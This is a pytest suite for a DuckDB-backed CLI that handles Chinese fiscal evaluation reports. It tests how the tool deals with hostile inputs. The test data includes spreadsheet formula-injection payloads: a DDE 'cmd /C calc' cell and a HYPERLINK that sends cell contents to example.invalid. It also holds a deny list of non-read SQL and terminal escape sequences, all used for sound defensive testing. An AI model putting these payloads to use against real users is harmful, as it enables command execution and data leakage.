"""Hostile use of the commands themselves (issue 14: D4, D5, D7, D9, D14): a wrong --db or --out, a
full disk, a closed pipe, SQL that is not a read, formula cells, escape sequences in names. Each
must end with a plain message and exit 2 (or a quiet exit 0 for a closed pipe), never a traceback,
and a file that is not a jixiao warehouse must keep every byte."""
from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest

from pipeline import audit
from pipeline.cli import main
from pipeline.csvcell import safe_cell
from pipeline.display import printable
from pipeline.record.schema import empty_record
from warehouse import guard, store
from warehouse.store import Warehouse

ROOT = Path(__file__).resolve().parents[1]
SAMPLE_TXT = ROOT / "corpus" / "samples" / "s1_cangxi_rural_road.txt"


# ---------------------------------------------------------------- helpers

def run_cli(*args, timeout: float = 240, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "pipeline", *map(str, args)], cwd=ROOT, capture_output=True,
                          text=True, timeout=timeout, **kw)


def run(capsys, *args) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def siblings(path: Path) -> set[str]:
    return {p.name for p in path.parent.iterdir()}


def store_report(wh: Warehouse, doc_id: str, findings: list[dict] = (), **fields) -> None:
    rec = empty_record()
    rec.update(doc_id=doc_id, source_path=fields.pop("source_path", f"/in/{doc_id}.txt"), source_format="txt",
               title=fields.pop("title", "某县示范项目绩效评价报告"), county=fields.pop("county", "丙县"),
               fiscal_year=2023, **fields)
    wh.write({"record": rec, "status": "ok", "source_path": rec["source_path"], "doc_id": doc_id,
              "findings": [dict(f, doc_id=doc_id) for f in findings], "file_sha": doc_id, "seconds": 0.0,
              "pages": 1}, "run")


@pytest.fixture
def warehouse(tmp_path) -> Path:
    db = tmp_path / "w.duckdb"
    wh = Warehouse(db)
    store_report(wh, "doc1")
    wh.close()
    return db


def foreign_db(path: Path, kind: str) -> Path:
    """DuckDB files that are not jixiao warehouses, and other files given as --db by mistake."""
    if kind == "zero_bytes":
        path.write_bytes(b"")
        return path
    if kind == "pdf":
        path.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + b"0" * 4000)
        return path
    if kind == "pending_wal":     # another tool's database whose last writes are still in its WAL
        subprocess.run([sys.executable, "-c", "import duckdb, os, sys; c = duckdb.connect(sys.argv[1]); "
                        "c.execute('CREATE TABLE orders (id INTEGER)'); c.execute('CHECKPOINT'); "
                        "c.execute('INSERT INTO orders VALUES (1)'); os._exit(0)", str(path)], check=True)
        assert path.with_name(path.name + ".wal").exists()
        return path
    con = duckdb.connect(str(path))
    if kind == "unrelated":
        con.execute("CREATE TABLE customers (id INTEGER, name VARCHAR)")
        con.execute("INSERT INTO customers VALUES (1, '某公司')")
    elif kind == "other_reports":
        con.execute("CREATE TABLE reports (id INTEGER, body VARCHAR)")
        con.execute("INSERT INTO reports VALUES (7, 'x')")
    elif kind == "rails_migrations":     # another tool's schema_migrations (version only)
        con.execute("CREATE TABLE schema_migrations (version VARCHAR)")
        con.execute("INSERT INTO schema_migrations VALUES ('20240101000000')")
    elif kind != "empty_duckdb":
        raise ValueError(kind)
    con.close()
    return path


def older_warehouse(path: Path) -> Path:
    """A jixiao warehouse as the first release left it: migration 001 only."""
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE schema_migrations (version INTEGER PRIMARY KEY, name VARCHAR, "
                "applied_at TIMESTAMP DEFAULT current_timestamp)")
    con.execute((ROOT / "warehouse/migrations/001_init.sql").read_text(encoding="utf-8"))
    con.execute("INSERT INTO schema_migrations (version, name) VALUES (1, '001_init')")
    con.close()
    return path


def audit_xlsx(tmp_path: Path, capsys) -> Path:
    src = tmp_path / "src.duckdb"
    wh = Warehouse(src)
    store_report(wh, "d1", [{"rule_id": "score.total_mismatch", "severity": "error", "message": "总分不符",
                             "expected": "80", "actual": "81", "evidence": "总分81分", "page": 1}])
    wh.close()
    xlsx = tmp_path / "marks.xlsx"
    assert run(capsys, "audit", "--db", src, "--out", xlsx)[0] == 0
    wb = openpyxl.load_workbook(xlsx)
    ws = wb[audit.SHEET_LIST]
    head = [c.value for c in ws[1]]
    ws.cell(row=2, column=head.index(audit.MARK) + 1, value="✓")
    wb.save(xlsx)
    return xlsx


# ---------------------------------------------------------------- D4: read commands never migrate

FOREIGN = ["unrelated", "other_reports", "rails_migrations", "empty_duckdb", "zero_bytes", "pdf", "pending_wal"]
READ_COMMANDS = {
    "query": lambda db, tmp, xlsx: ["query", "--db", db, "SELECT 1"],
    "report": lambda db, tmp, xlsx: ["report", "--db", db, "--out", tmp / "r.html"],
    "audit_export": lambda db, tmp, xlsx: ["audit", "--db", db, "--format", "json"],
    "audit_import": lambda db, tmp, xlsx: ["audit", "--db", db, "--import", xlsx],
}


@pytest.mark.parametrize("kind", FOREIGN)
@pytest.mark.parametrize("command", sorted(READ_COMMANDS))
def test_read_commands_refuse_a_file_that_is_not_a_warehouse_and_leave_its_bytes(tmp_path, capsys, command, kind):
    xlsx = audit_xlsx(tmp_path, capsys) if command == "audit_import" else None
    db = foreign_db(tmp_path / "theirs.duckdb", kind)
    before, names = digest(db), siblings(db)
    code, out, err = run(capsys, *READ_COMMANDS[command](db, tmp_path, xlsx))
    assert code == 2
    assert "warehouse" in err and ("not a jixiao warehouse" in err or "not a DuckDB database" in err
                                   or "no warehouse yet" in err or "not a warehouse yet" in err)
    assert digest(db) == before, "the file's bytes changed"
    assert siblings(db) == names, "a file (WAL, report) appeared beside it"


@pytest.mark.parametrize("kind", ["unrelated", "other_reports", "rails_migrations", "pdf", "pending_wal"])
def test_ingest_refuses_a_foreign_file_and_leaves_it_unchanged(tmp_path, kind):
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(SAMPLE_TXT, folder / "a.txt")
    db = foreign_db(tmp_path / "theirs.duckdb", kind)
    files = sorted(p for p in tmp_path.iterdir() if p.name.startswith("theirs"))
    before = [digest(p) for p in files]
    proc = run_cli("ingest", folder, "--db", db, "--workers", "1", "--quiet")
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and "left unchanged" in proc.stderr
    assert sorted(p for p in tmp_path.iterdir() if p.name.startswith("theirs")) == files
    assert [digest(p) for p in files] == before, "the file (or its WAL) changed"


@pytest.mark.parametrize("kind", ["zero_bytes", "empty_duckdb"])
def test_ingest_creates_a_warehouse_in_an_empty_file(tmp_path, kind):
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(SAMPLE_TXT, folder / "a.txt")
    db = foreign_db(tmp_path / "new.duckdb", kind)
    proc = run_cli("ingest", folder, "--db", db, "--workers", "1", "--quiet")
    assert proc.returncode == 0, proc.stderr
    con = duckdb.connect(str(db), read_only=True)
    assert con.execute("SELECT count(*) FROM reports").fetchone()[0] == 1
    con.close()


def test_an_older_jixiao_warehouse_is_still_upgraded_by_a_writer(tmp_path):
    db = older_warehouse(tmp_path / "old.duckdb")
    Warehouse(db).close()
    con = duckdb.connect(str(db), read_only=True)
    names = {r[0] for r in con.execute("SELECT name FROM schema_migrations").fetchall()}
    con.close()
    assert names == {f.stem for f in (ROOT / "warehouse/migrations").glob("*.sql")}


def test_report_reads_an_older_warehouse_without_upgrading_it(tmp_path, capsys):
    db = older_warehouse(tmp_path / "old.duckdb")
    before = digest(db)
    code, _, err = run(capsys, "report", "--db", db, "--out", tmp_path / "r.html")
    assert code == 2 and "older jixiao" in err and "ingest" in err
    assert digest(db) == before and not (tmp_path / "r.html").exists()


def test_migrate_itself_refuses_a_foreign_database(tmp_path):
    db = foreign_db(tmp_path / "theirs.duckdb", "other_reports")
    con = duckdb.connect(str(db))
    with pytest.raises(guard.NotAWarehouse):
        store.migrate(con)
    assert not con.execute("SELECT count(*) FROM information_schema.tables "
                           "WHERE table_name = 'schema_migrations'").fetchone()[0]
    con.close()


def test_audit_import_still_writes_marks_into_a_warehouse(tmp_path, capsys, warehouse):
    xlsx = audit_xlsx(tmp_path, capsys)
    code, _, err = run(capsys, "audit", "--db", warehouse, "--import", xlsx)
    assert code == 0 and "imported 1 reviews" in err


# ---------------------------------------------------------------- D5: CSV formula injection

HOSTILE_CELLS = {
    "evidence": '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
    "message": "+cmd|' /C calc'!A0",
    "actual": "-2+3",
    "expected": "@SUM(1,2)",
}


def formula_warehouse(tmp_path: Path) -> Path:
    db = tmp_path / "f.duckdb"
    wh = Warehouse(db)
    store_report(wh, "doc1", [dict(rule_id="score.total_mismatch", severity="error", page=1, **HOSTILE_CELLS),
                              dict(rule_id="funds.sum_mismatch", severity="warning", message="合计不符", page=2,
                                   expected="-12.5", actual="-1,234.50", evidence="\t=1+1")],
                 title="=1+1 某县项目")
    wh.close()
    return db


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_audit_csv_neutralises_formula_cells_in_a_file_and_on_stdout(tmp_path, capsys):
    db = formula_warehouse(tmp_path)
    out = tmp_path / "a.csv"
    assert run(capsys, "audit", "--db", db, "--out", out)[0] == 0
    code, stdout, _ = run(capsys, "audit", "--db", db)
    assert code == 0
    for rows in (csv_rows(out.read_text(encoding="utf-8-sig")), csv_rows(stdout)):
        first, second = rows
        for col, text in HOSTILE_CELLS.items():
            assert first[col] == "'" + text
        assert first["title"] == "'=1+1 某县项目"
        assert second["evidence"] == "'\t=1+1"
        # plain numbers stay numbers: a spreadsheet reads them as such, nothing else
        assert second["expected"] == "-12.5" and second["actual"] == "-1,234.50"
        assert first["page"] == "1"


def test_query_csv_neutralises_formula_cells(tmp_path, capsys):
    db = formula_warehouse(tmp_path)
    code, out, _ = run(capsys, "query", "--db", db, "--format", "csv",
                       "SELECT evidence, expected, page, -3 AS n FROM findings ORDER BY page")
    assert code == 0
    rows = csv_rows(out)
    assert rows[0]["evidence"] == "'" + HOSTILE_CELLS["evidence"] and rows[0]["n"] == "-3"
    assert rows[1]["expected"] == "-12.5"


def test_xlsx_keeps_formula_like_text_as_text(tmp_path, capsys):
    db = formula_warehouse(tmp_path)
    xlsx = tmp_path / "a.xlsx"
    assert run(capsys, "audit", "--db", db, "--out", xlsx)[0] == 0
    with zipfile.ZipFile(xlsx) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets), "a cell was stored as a formula"
    ws = openpyxl.load_workbook(xlsx)[audit.SHEET_LIST]
    head = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=head.index(audit.XLSX_HEADER["evidence"]) + 1)
    assert cell.value == HOSTILE_CELLS["evidence"] and cell.data_type == "s"


@pytest.mark.parametrize("value,want", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-", "'-"), ("-12", "-12"), ("+3.5", "+3.5"), ("-1,234.5", "-1,234.5"), ("-5%", "-5%"), ("-1e5", "-1e5"),
    ("-1,23", "'-1,23"), ("-inf", "'-inf"), ("合计=100", "合计=100"), (-7, -7), (2.5, 2.5), (None, None)])
def test_csv_cell_rule(value, want):
    assert safe_cell(value) == want


# ---------------------------------------------------------------- D7: a message and exit 2, never a traceback

@pytest.mark.parametrize("kind", ["pdf", "folder", "device"])
@pytest.mark.parametrize("command", ["query", "report", "ingest"])
def test_a_pdf_folder_or_device_as_db_gives_a_message(tmp_path, command, kind):
    db = {"pdf": lambda: foreign_db(tmp_path / "report.pdf", "pdf"), "folder": lambda: tmp_path,
          "device": lambda: Path(os.devnull)}[kind]()
    args = {"query": ["query", "SELECT 1"], "report": ["report", "--out", tmp_path / "r.html"],
            "ingest": ["ingest", SAMPLE_TXT, "--workers", "1", "--quiet"]}[command]
    proc = run_cli(*args, "--db", db)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "error:" in proc.stderr and proc.stderr.count("\n") <= 2


def test_an_unwritable_place_for_the_warehouse_gives_a_message(tmp_path):
    # sysfs takes no new files, even from root
    proc = run_cli("ingest", SAMPLE_TXT, "--db", "/sys/jixiao-test.duckdb", "--workers", "1", "--quiet")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "no permission" in proc.stderr or "read-only file system" in proc.stderr


def _file_size_limit(limit: int):
    def apply():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)     # the write then fails with EFBIG, like a full disk
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


def _reports(n: int, folder: Path) -> Path:
    folder.mkdir()
    text = SAMPLE_TXT.read_text(encoding="utf-8")
    for i in range(n):
        (folder / f"r{i}.txt").write_text(text.replace("。", f"。第{i}稿", 1), encoding="utf-8")
    return folder


@pytest.mark.parametrize("existing", [False, True])
def test_a_disk_that_fills_up_during_ingest_gives_a_message(tmp_path, existing):
    folder = _reports(40, tmp_path / "in")
    db = tmp_path / "w.duckdb"
    if existing:
        Warehouse(db).close()        # the schema is in place; the reports will not fit
    # a file size limit (per file: the WAL cannot grow past it) fails writes as a full disk does
    proc = run_cli("ingest", folder, "--db", db, "--workers", "1", "--quiet", preexec_fn=_file_size_limit(64 * 1024))
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and ("size limit" in proc.stderr or "disk" in proc.stderr)


def test_a_disk_that_fills_up_during_ingest_blames_no_file(tmp_path):
    folder = _reports(40, tmp_path / "in")
    db = tmp_path / "w.duckdb"
    Warehouse(db).close()
    proc = run_cli("ingest", folder, "--db", db, "--workers", "1", "--quiet", preexec_fn=_file_size_limit(64 * 1024))
    assert proc.returncode == 2, proc.stderr
    assert "File too large" in proc.stderr, "the message hides the OS's reason"
    con = duckdb.connect(str(db), read_only=True)
    blamed = con.execute("SELECT count(*) FROM ingest_log WHERE error LIKE '%could not be stored%'").fetchone()[0]
    con.close()
    assert blamed == 0, "files were logged as unstorable for a full disk"


@pytest.mark.parametrize("exc", [
    duckdb.TransactionException('TransactionContext Error: Failed to commit: Could not write file "w.duckdb.wal": '
                                'No space left on device'),
    duckdb.IOException('IO Error: Could not write file "w.duckdb.wal": File too large'),
    OSError(errno.EROFS, "Read-only file system")])
def test_a_write_refused_by_the_disk_is_told_from_a_refused_value(exc):
    assert guard.is_environmental(exc)
    assert not guard.is_environmental(duckdb.ConversionException("Conversion Error: Type INT64 with value "
                                                                 "100000000000000000000000 can't be cast"))


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_a_full_disk_for_out_gives_a_message(warehouse, capsys, fmt):
    code, _, err = run(capsys, "audit", "--db", warehouse, "--format", fmt, "--out", "/dev/full")
    assert code == 2 and "disk is full" in err and "/dev/full" in err


def test_report_to_a_full_disk_gives_a_message(tmp_path):
    wh = Warehouse(tmp_path / "w.duckdb")
    store_report(wh, "doc1")
    wh.close()
    proc = run_cli("report", "--db", tmp_path / "w.duckdb", "--out", "/dev/full")
    assert proc.returncode == 2 and "disk is full" in proc.stderr and "Traceback" not in proc.stderr


@pytest.mark.parametrize("command", ["report", "audit"])
def test_out_naming_a_folder_gives_a_message(warehouse, tmp_path, capsys, command):
    code, _, err = run(capsys, command, "--db", warehouse, "--out", tmp_path)
    assert code == 2 and "is a folder" in err


def test_a_query_error_raised_while_rows_are_fetched_gives_a_message(warehouse, capsys):
    code, out, err = run(capsys, "query", "--db", warehouse,
                         "SELECT CASE WHEN i = 2999999 THEN error('boom') END FROM range(3000000) t(i)")
    assert code == 2 and "boom" in err and out == ""


@pytest.mark.parametrize("command", ["ingest", "query"])
def test_a_closed_pipe_ends_quietly(tmp_path, warehouse, command):
    args = {"ingest": ["ingest", SAMPLE_TXT, "--db", tmp_path / "p.duckdb", "--workers", "1", "--quiet"],
            "query": ["query", "--db", warehouse, "SELECT * FROM range(200000)"]}[command]
    r, w = os.pipe()
    proc = subprocess.Popen([sys.executable, "-m", "pipeline", *map(str, args)], cwd=ROOT, stdout=w,
                            stderr=subprocess.PIPE, text=True)
    os.close(w)
    os.close(r)          # `| head` that has already gone
    _, err = proc.communicate(timeout=240)
    assert proc.returncode == 0 and "Traceback" not in err and "BrokenPipe" not in err


def test_an_unexpected_error_is_one_line_not_a_traceback(capsys, monkeypatch):
    import pipeline.cli as cli

    def boom(a):
        raise TypeError("a bug")
    monkeypatch.setattr(cli, "cmd_rules", boom)
    code, _, err = run(capsys, "rules")
    assert code == 1 and "internal error" in err and "Traceback" not in err


@pytest.mark.parametrize("exc,words", [
    (OSError(errno.ENOSPC, "No space left on device"), "disk is full"),
    (OSError(errno.EROFS, "Read-only file system"), "read-only file system"),
    (OSError(errno.EACCES, "Permission denied"), "no permission"),
    (duckdb.IOException('IO Error: Could not write file "w.duckdb.wal": No space left on device'), "disk is full"),
    (duckdb.IOException('IO Error: Cannot open file "w.duckdb": Read-only file system'), "read-only file system"),
    (duckdb.IOException('IO Error: The file "x.pdf" exists, but it is not a valid DuckDB database file!'),
     "not a DuckDB database")])
def test_causes_on_the_users_side_are_named(exc, words):
    assert words in guard.problem(exc, "w.duckdb")


# ---------------------------------------------------------------- D9: query runs reads only

REFUSED_SQL = [
    "CREATE TEMP TABLE t (a INTEGER)",
    "CREATE TEMP VIEW reports AS SELECT 'fake' AS doc_id; SELECT * FROM reports",
    "SELECT 1; CREATE TEMP TABLE t AS SELECT 1",
    "PRAGMA version", "SET threads = 1", "INSTALL httpfs", "LOAD httpfs", "ATTACH ':memory:' AS m",
    "COPY (SELECT 1) TO 'x.csv'", "EXPORT DATABASE 'exported'", "EXPLAIN ANALYZE CREATE TEMP TABLE t AS SELECT 1",
    "BEGIN", "CHECKPOINT", "USE memory", "DETACH m", "INSERT INTO reports (doc_id) VALUES ('x')",
]


@pytest.mark.parametrize("sql", REFUSED_SQL)
def test_query_refuses_everything_but_reads(warehouse, capsys, sql):
    code, out, err = run(capsys, "query", "--db", warehouse, sql)
    assert code == 2 and "refused" in err and out == ""


@pytest.mark.parametrize("sql", ["CALL enable_logging(storage='file', storage_path='{log}')",
                                 "SELECT * FROM enable_logging(storage='file', storage_path='{log}')"])
def test_query_cannot_switch_on_logging_or_abort_the_process(warehouse, tmp_path, sql):
    log = tmp_path / "logs"
    proc = run_cli("query", "--db", warehouse, sql.format(log=log))
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert not log.exists()


@pytest.mark.parametrize("sql", ["SELECT count(*) FROM reports", "WITH r AS (SELECT * FROM reports) SELECT count(*) FROM r",
                                 "VALUES (1)", "FROM reports SELECT doc_id", "DESCRIBE reports", "SHOW TABLES",
                                 "EXPLAIN SELECT * FROM reports", "SELECT 1; SELECT count(*) FROM reports",
                                 "SUMMARIZE SELECT 1 AS x"])
def test_query_runs_reads(warehouse, capsys, sql):
    code, out, err = run(capsys, "query", "--db", warehouse, sql)
    assert code == 0, err
    assert "rows)" in out


# ---------------------------------------------------------------- D14: nothing printed steers the terminal

@pytest.mark.parametrize("raw,shown", [
    ("a\x1b]0;pwned\x07b", "a\\x1b]0;pwned\\x07b"), ("\x1b[2J", "\\x1b[2J"), ("x\x9b31m", "x\\x9b31m"),
    ("甲\u202e乙", "甲\\u202e乙"), ("附\udccf件", "附\\xcf件"), ("行一\n行二", "行一\\x0a行二"), ("普通 文件.pdf", "普通 文件.pdf")])
def test_printable_makes_control_characters_visible(raw, shown):
    assert printable(raw) == shown
    printable(raw).encode("utf-8")        # always printable, also a name that is not UTF-8


def test_printable_can_keep_line_breaks():
    assert printable("一\n二\x1b", newlines=True) == "一\n二\\x1b"


ESCAPED_NAME = "/in/\x1b]0;owned\x07\x1b[2J\u202e报告.txt"


def test_query_shows_escape_sequences_in_names_visibly(tmp_path, capsys):
    db = tmp_path / "w.duckdb"
    wh = Warehouse(db)
    store_report(wh, "doc1", source_path=ESCAPED_NAME, title="标题\x9b31m")
    wh.close()
    code, out, _ = run(capsys, "query", "--db", db, "SELECT source_path, title FROM reports")
    assert code == 0
    assert not any(c in out for c in "\x1b\x07\x9b\u202e")
    assert "\\x1b]0;owned\\x07" in out
    code, out, _ = run(capsys, "query", "--db", db, "--format", "json", "SELECT source_path, title FROM reports")
    assert code == 0 and not any(c in out for c in "\x1b\x07\x9b\u202e")
    assert json.loads(out) == [{"source_path": ESCAPED_NAME, "title": "标题\x9b31m"}]      # the same data


def test_ingest_summary_shows_escape_sequences_in_file_names_visibly(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "\x1b]0;owned\x07empty.txt").write_bytes(b"")          # listed among the problems
    (folder / "\x1b[2Jnotes.xlsx").write_bytes(b"x")                  # named as an example of other files
    proc = run_cli("ingest", folder, "--db", tmp_path / "w.duckdb", "--workers", "1", "--quiet")
    assert proc.returncode == 0, proc.stderr
    assert not any(c in proc.stdout for c in "\x1b\x07")
    assert "\\x1b]0;owned\\x07empty.txt" in proc.stdout
